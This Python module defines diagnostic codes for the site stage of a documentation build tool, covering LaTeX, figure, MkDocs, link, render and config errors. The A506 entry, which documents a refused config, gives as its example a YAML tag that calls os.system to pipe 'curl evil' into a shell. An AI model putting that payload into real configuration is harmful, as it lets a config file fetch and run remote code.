"""Diagnostic codes of the site stage (A5xx); kept import-light so `registry()` can load it."""

from __future__ import annotations

from atlas_build.diagnostics import Severity, define

STAGE = "site"

LATEX = define(
    "A501",
    "latex-error",
    Severity.ERROR,
    "KaTeX cannot render a formula of the lesson, so the page would show broken math.",
    example=r"$$\frac{a$$ (a missing closing brace)",
    fix="Correct the LaTeX at the reported position; only KaTeX-supported commands render.",
    stage=STAGE,
)
FIGURE = define(
    "A502",
    "figure-skipped",
    Severity.WARNING,
    "A claim that normally gets a figure has parameters the figure cannot be drawn from.",
    example="a packed_mask claim whose documents do not fit in block_size",
    fix="Fix the claim's params (the claims stage reports the same problem in detail).",
    stage=STAGE,
)
MKDOCS = define(
    "A503",
    "mkdocs-warning",
    Severity.ERROR,
    "MkDocs reported a warning while laying out the generated pages (it runs in strict mode).",
    example="Doc file 'index.md' contains a link '#nope', but there is no such anchor",
    fix="Usually a bug in the site generator: report it with the MkDocs message.",
    stage=STAGE,
)
LINK = define(
    "A504",
    "broken-site-link",
    Severity.ERROR,
    "A link or image of the built site points at a page, file or anchor that does not exist.",
    example="report/index.html links ../lessons/kv-cache/#claim-x but no element has that id",
    fix="Usually a bug in the site generator: report it with the link.",
    stage=STAGE,
)
PAGE = define(
    "A505",
    "page-render-failed",
    Severity.ERROR,
    "A lesson's page could not be rendered; the lesson is left out of the site.",
    example="a claim parameter no figure can be drawn from that escaped the figure's checks",
    fix="Report it with the message; fix the lesson or claim it names meanwhile.",
    stage=STAGE,
)
CONFIG = define(
    "A506",
    "mkdocs-config-refused",
    Severity.ERROR,
    "The repository's mkdocs.yml asks MkDocs to run code or to read outside the repository: "
    "a YAML tag that builds a Python object, hooks, a plugin or markdown extension atlas-build "
    "does not know, extra_javascript, an INHERIT or theme.custom_dir that leaves the "
    "repository or holds links.",
    example='theme: !!python/object/apply:os.system ["curl evil | sh"]',
    fix="Remove the entry. Hooks, other plugins, extensions and extra_javascript are allowed "
    "with `atlas-build build --trust-config` (code you have reviewed); tags never are.",
    stage=STAGE,
)
